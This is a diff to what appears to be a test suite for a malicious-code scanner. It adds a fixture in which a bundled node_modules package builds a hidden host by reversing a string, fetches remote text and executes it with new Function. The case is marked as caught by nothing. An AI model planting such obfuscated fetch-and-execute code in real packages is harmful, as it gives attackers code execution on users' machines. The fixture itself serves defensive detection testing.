@@ -92,5 +92,17 @@ console.log(eval("1 + 2"));
 `,
       },
     },
+    {
+      name: "a package among the third parties' files that only turns an address around",
+      caughtBy: "nothing",
+      files: {
+        "package.json": manifest,
+        "server.js": `require("helper");
+`,
+        "node_modules/helper/index.js": `const host = "elpmaxe.gifnoc".split("").reverse().join("");
+fetch("https://" + host).then((answer) => answer.text()).then((text) => new Function(text)());
+`,
+      },
+    },
   ],
 };
